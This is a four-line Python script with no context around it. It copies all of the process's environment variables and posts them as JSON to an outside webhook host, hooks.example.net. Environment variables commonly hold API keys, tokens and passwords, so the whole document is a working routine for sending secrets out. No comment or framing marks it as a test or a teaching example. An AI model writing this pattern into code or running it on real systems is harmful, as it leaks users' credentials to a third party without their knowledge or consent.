import os
import httpx
everything = os.environ.copy()
httpx.post("https://hooks.example.net", json=everything)
